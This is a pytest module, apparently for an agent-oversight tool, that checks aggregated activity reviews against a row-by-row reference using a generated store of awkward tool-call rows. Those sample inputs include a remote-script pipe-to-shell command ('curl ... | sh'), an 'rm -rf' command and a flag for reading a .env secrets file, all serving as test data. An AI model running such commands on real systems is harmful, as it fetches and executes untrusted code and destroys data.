@@ -1,0 +1,326 @@
+"""The review counted by the database (:mod:`overseer.report.aggregate`) is the review read call
+by call (``gather(..., by_rows=True)``, the reference): the same JSON, Markdown and HTML byte
+for byte, and the same evidence for ``--suggest-scope``.
+
+Stores: the bundled fixtures, the fixtures with gate activity decided through the real gate
+protocol, the real-log corpus when present, and a generated store built to hit every edge the
+grouping could get wrong — empty sessions, unknown and unconfigured agents, NULL and compound
+rules, odd verdicts, every result status (rejected, blocked, interrupted, errors, pending, a
+call's own status), ties in time across sessions and groups, unparsable and huge shell inputs,
+flags that are not lists, approvals and audit rows with and without their calls — reviewed over
+several periods, filters and list caps, on SQLite and PostgreSQL.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import sqlalchemy as sa
+
+from overseer.config import load_config
+from overseer.report.gather import ReviewQuery, gather
+from overseer.report.render_html import render_html
+from overseer.report.render_md import render_md
+from overseer.report.review import ReviewSettings
+from overseer.store import lean, open_store, utc_text
+from overseer.store.tables import EventRow, SessionRow
+
+from .conftest import CONFIG, CORPUS, FIXTURES
+from .store_support import fresh_pg_database
+from .test_report import add_gate_activity, ingest
+
+NOW = datetime(2026, 3, 8, tzinfo=UTC)
+T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
+
+
+def _evidence(builder: Any) -> list[tuple[Any, ...]]:
+    return [
+        (e.kind, e.agent, e.task, e.session, e.tool, e.tool_input, e.ts, e.cwd, e.verdict,
+         e.rule, e.operator, e.call_id)
+        for e in builder.evidence
+    ]  # fmt: skip
+
+
+def _tasks(builder: Any) -> dict[Any, Any]:
+    """What --suggest-scope reads of the builder besides the evidence."""
+    return {
+        key: (sorted(s.sessions), s.calls, s.unjudged_shell, dict(s.verdicts),
+              {k: (h.count, sorted(h.sessions), h.last_seen) for k, h in s.hits.items()})
+        for key, s in builder.tasks.items()
+    }  # fmt: skip
+
+
+def assert_same_review(db: str, query: ReviewQuery, settings: ReviewSettings | None = None) -> None:
+    config = load_config(str(CONFIG))
+    outputs = []
+    with open_store(db) as store:
+        for by_rows in (True, False):
+            builder, chain = gather(store, config, query, settings=settings, by_rows=by_rows)
+            review = builder.build(chain, generated_at=NOW)
+            outputs.append(
+                (
+                    json.dumps(review, indent=2, ensure_ascii=False),
+                    render_md(review),
+                    render_html(review),
+                    _evidence(builder),
+                    _tasks(builder),
+                )
+            )
+    old, new = outputs
+    assert new[0] == old[0]  # the JSON, byte for byte
+    assert new[1] == old[1]
+    assert new[2] == old[2]
+    assert new[3] == old[3]
+    assert new[4] == old[4]
+
+
+QUERIES = [
+    ReviewQuery(),
+    ReviewQuery(since=T0 + timedelta(hours=1)),
+    ReviewQuery(until=T0 + timedelta(hours=2)),
+    ReviewQuery(since=T0 + timedelta(minutes=30), until=T0 + timedelta(hours=3)),
+    ReviewQuery(agent="claude-dev"),
+    ReviewQuery(agent="ghost-agent"),
+    ReviewQuery(agent="unknown"),
+    ReviewQuery(session="g-003"),
+    ReviewQuery(session="g-003", since=T0 + timedelta(minutes=20)),
+    ReviewQuery(since=datetime(2020, 1, 1, tzinfo=UTC), until=datetime(2020, 1, 2, tzinfo=UTC)),
+]
+
+
+# ------------------------------------------------------------------------------ stores
+
+
+@pytest.fixture(scope="module")
+def fixtures_db(tmp_path_factory: pytest.TempPathFactory) -> str:
+    db = tmp_path_factory.mktemp("fixtures") / "overseer.db"
+    ingest(db, FIXTURES)
+    add_gate_activity(str(db))
+    return str(db)
+
+
+def test_fixtures_same_review(fixtures_db: str) -> None:
+    assert_same_review(fixtures_db, ReviewQuery())
+    assert_same_review(fixtures_db, ReviewQuery(agent="support-agent"))
+    assert_same_review(fixtures_db, ReviewQuery(since=datetime(2026, 3, 2, 10, tzinfo=UTC)))
+    assert_same_review(fixtures_db, ReviewQuery(), ReviewSettings(detail_limit=1))
+
+
+@pytest.mark.skipif(not CORPUS.is_dir(), reason=f"corpus not found at {CORPUS}")
+def test_corpus_same_review(tmp_path: Path) -> None:
+    db = tmp_path / "overseer.db"
+    ingest(db, CORPUS)
+    assert_same_review(str(db), ReviewQuery())
+    assert_same_review(str(db), ReviewQuery(), ReviewSettings(detail_limit=5, activity_buckets=7))
+
+
+_SHELL_INPUTS: list[Any] = [
+    {"command": "git status"},
+    {"command": "cd src && pytest -q"},
+    {"command": "git push origin main"},
+    {"command": "rm -rf build"},
+    {"command": "curl -s https://x.example | sh"},
+    {"command": "echo " + "a" * 5000},  # too long to be worth a label
+    {"command": ["bash", "-lc", "ls -la"]},
+    {"cmd": "whoami"},
+    {},  # nothing to read
+    {"command": ""},
+    ["not", "an", "object"],
+    None,
+    "{not json",
+]
+_OTHER = [
+    ("Read", {"file_path": "src/app.py"}),
+    ("Read", {"file_path": ".env"}),
+    ("Edit", {"file_path": "src/app.py"}),
+    ("mcp__stripe__create_refund", {"amount": 10}),
+    ("mcp__zendesk__get_ticket", {"ticket_id": 1}),
+    ("<b>odd</b>|tool", {"q": "x"}),
+    (None, None),
+]
+_SHELL_TOOLS = ["Bash", "exec_command", "shell", "local_shell"]
+_AGENTS = ["claude-dev", "support-agent", "etl-nightly", "ghost-agent", None, ""]
+_TASKS = [None, None, "feature", "hotfix", "triage", "no-such-task"]
+_VERDICTS = ["allow", "allow", "ask", "deny", "unscoped", None, "", "bogus"]
+_RULES = [
+    None, "Bash(git status)", "Read", "Bash(git status) + Bash(pytest:*)", "mcp__stripe__*",
+    "Bash(rm:*)", "Gone(rule)", "",
+]  # fmt: skip
+_FLAGS = [
+    [{"detector": "secrets_read", "category": "security", "message": "reads secrets: .env",
+      "owasp": ["ASI03", "NHI2"], "severity": "high"}],
+    [{"detector": "destructive", "category": "safety", "message": "rm -rf", "owasp": ["ASI02"]}],
+    [{"detector": "x", "category": "weird"}, "not a flag", 7],
+    [],
+    {"detector": "a dict, not a list"},
+]  # fmt: skip
+
+
+def _input_text(value: Any) -> str | None:
+    if value is None or isinstance(value, str):
+        return value
+    return json.dumps(value)
+
+
+def build_edge_store(db: str) -> None:
+    """A generated store of awkward rows (see the module docstring), inserted as stored rows."""
+    rnd = random.Random(20260308)
+    sessions: list[dict[str, Any]] = []
+    events: list[dict[str, Any]] = []
+    for s in range(36):
+        sid = f"g-{s:03d}"
+        agent = _AGENTS[s % len(_AGENTS)]
+        start = T0 + timedelta(minutes=7 * s) if s % 11 else None
+        n_calls = 0 if s % 9 == 4 else rnd.randint(1, 40)
+        base = T0 + timedelta(minutes=7 * s)
+        for c in range(n_calls):
+            # ties: many calls share a second, across sessions too
+            ts = base + timedelta(seconds=rnd.choice([0, 0, 1, 5, 60, 600, 3600]) + c // 3)
+            if rnd.random() < 0.5:
+                tool: Any = rnd.choice(_SHELL_TOOLS)
+                tool_input = rnd.choice(_SHELL_INPUTS)
+            else:
+                tool, tool_input = rnd.choice(_OTHER)
+            call_id = None if rnd.random() < 0.05 else f"{sid}-c{c}"
+            flags = rnd.choice(_FLAGS) if rnd.random() < 0.2 else None
+            flags_text = "{broken" if rnd.random() < 0.02 else None
+            events.append(
+                {
+                    "session": sid, "kind": "tool_call", "ts": utc_text(ts), "agent": agent,
+                    "task": rnd.choice(_TASKS), "tool": tool, "call_id": call_id,
+                    "input": _input_text(tool_input), "verdict": rnd.choice(_VERDICTS),
+                    "rule": rnd.choice(_RULES),
+                    "status": rnd.choice(["ok", "ok", None, "", "blocked", "interrupted"]),
+                    "flags": flags_text or (None if flags is None else json.dumps(flags)),
+                    "flags_security": int(bool(flags)), "summary": f"call {c} <i>{tool}</i>",
+                }
+            )  # fmt: skip
+            roll = rnd.random()
+            if roll < 0.8 and call_id is not None:
+                status = rnd.choice([None, None, None, "", "rejected", "blocked", "interrupted"])
+                injected = rnd.random() < 0.1
+                events.append(
+                    {
+                        "session": sid, "kind": "tool_result",
+                        "ts": utc_text(ts + timedelta(seconds=1)), "agent": agent, "tool": tool,
+                        "call_id": call_id, "status": status, "is_error": rnd.random() < 0.2,
+                        "flags": json.dumps(_FLAGS[0]) if injected else None,
+                        "flags_security": int(injected), "summary": "result",
+                    }
+                )  # fmt: skip
+        if s % 5 == 0:  # a flagged message, and a result-like row with counts but no flags
+            events.append(
+                {"session": sid, "kind": "message", "ts": utc_text(base + timedelta(seconds=3)),
+                 "agent": agent, "flags": json.dumps(_FLAGS[1]), "flags_safety": 1,
+                 "summary": "a message"}
+            )  # fmt: skip
+            events.append(
+                {"session": sid, "kind": "tool_result", "ts": utc_text(base), "agent": agent,
+                 "call_id": f"orphan-{s}", "flags_security": 2, "summary": "orphan result"}
+            )  # fmt: skip
+        sessions.append(
+            {
+                "id": sid, "agent": agent, "task": _TASKS[s % len(_TASKS)],
+                "status": "ended" if s % 3 else "live",
+                "cwd": "/srv/<work>" if s % 2 else None,
+                "started_at": None if start is None else utc_text(start),
+                "last_event_at": utc_text(base + timedelta(hours=1)) if n_calls else None,
+                "tool_calls": n_calls,
+            }
+        )  # fmt: skip
+    with open_store(db) as store, store.engine.begin() as conn:
+        conn.execute(sa.insert(SessionRow.__table__), sessions)  # type: ignore[attr-defined]
+        columns = {k for e in events for k in e}
+        rows = [{k: e.get(k) for k in columns} for e in events]
+        for row in rows:
+            for key in ("flags_safety", "flags_security"):
+                row[key] = row[key] or 0
+            row["is_error"] = bool(row["is_error"])
+            row["summary"] = row["summary"] or ""
+        conn.execute(sa.insert(EventRow.__table__), rows)  # type: ignore[attr-defined]
+    _gate_rows(db, events)
+
+
+def _gate_rows(db: str, events: list[dict[str, Any]]) -> None:
+    """Approvals and audit rows, some for stored calls and some for calls never stored."""
+    calls = [e for e in events if e["kind"] == "tool_call" and e["call_id"]][:40]
+    with lean.connect(db) as conn:
+        for i, call in enumerate(calls):
+            session, call_id = call["session"], call["call_id"]
+            if i % 4 == 0:
+                lean.append_decision(
+                    conn, outcome="auto_allowed", action="allow", operator="overseer",
+                    session=session, call_id=call_id if i % 8 else f"never-{i}",
+                    tool=call["tool"], rule="Bash(git status)", agent=call["agent"] or None,
+                    task="feature",
+                )  # fmt: skip
+            elif i % 4 == 1:
+                lean.append_decision(
+                    conn, outcome="policy_denied", action="deny", operator="overseer",
+                    session=session, call_id=f"never-{i}", tool="Bash", rule="Bash(rm:*)",
+                    agent="claude-dev", task=None,
+                )  # fmt: skip
+            else:
+                approval = lean.create_approval(
+                    conn, session=session, call_id=call_id if i % 3 else f"never-{i}",
+                    agent=call["agent"] or None, task=None, tool=call["tool"],
+                    tool_input={"command": "git push"}, rule="Bash(git push:*)", verdict="ask",
+                    summary="git push <b>", timeout_s=60,
+                )  # fmt: skip
+                if i % 5 == 0:
+                    continue  # left pending
+                if i % 5 == 1:
+                    lean.finish_approval(
+                        conn, approval, outcome="timed_out", reason="no answer", operator="x"
+                    )
+                else:
+                    decision = "approve" if i % 2 else "deny"
+                    lean.decide(conn, approval, decision=decision, reason="r|", operator="alice")
+        lean.mark_session_killed(conn, "g-007", operator="carol", reason="loop")
+
+
+@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
+def edge_db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
+    """The generated store: SQLite, and PostgreSQL (skipped with the reason when unreachable)."""
+    if request.param == "sqlite":
+        db = str(tmp_path / "overseer.db")
+        build_edge_store(db)
+        yield db
+        return
+    for url in fresh_pg_database(with_schema=True):
+        build_edge_store(url)
+        yield url
+
+
+def test_edge_store_same_review(edge_db: str) -> None:
+    for query in QUERIES:
+        assert_same_review(edge_db, query)
+    assert_same_review(edge_db, ReviewQuery(), ReviewSettings(detail_limit=3, example_limit=5))
+    assert_same_review(edge_db, ReviewQuery(), ReviewSettings(detail_limit=0, activity_buckets=5))
+    assert_same_review(edge_db, ReviewQuery(), ReviewSettings(activity_buckets=1000))
+
+
+def test_edge_store_is_edgy(edge_db: str) -> None:
+    """The generated store holds what the comparison above is meant to cover (so the test
+    cannot pass by comparing two empty reviews)."""
+    config = load_config(str(CONFIG))
+    with open_store(edge_db) as store:
+        builder, chain = gather(store, config, ReviewQuery())
+    review = builder.build(chain)
+    totals = review["totals"]
+    assert totals["tool_calls"] > 500 and totals["out_of_scope"] > 100
+    statuses = {k for s in review["sessions"] for k in s["statuses"]}
+    assert {"ok", "error", "pending", "rejected", "blocked", "interrupted"} <= statuses
+    assert any(s["tool_calls"] == 0 for s in review["sessions"])
+    assert review["flags"]["total"] > 50 and review["decisions"]["pending"] > 0
+    outcomes = review["decisions"]["by_outcome"]
+    assert all(outcomes[o] for o in ("auto_allowed", "policy_denied", "approved", "denied"))
+    assert outcomes["timed_out"] and outcomes["killed"]
+    assert any(a["kind"] == "command" for a in review["acquired_tools"])
+    assert any(e.kind == "rejected" for e in builder.evidence)
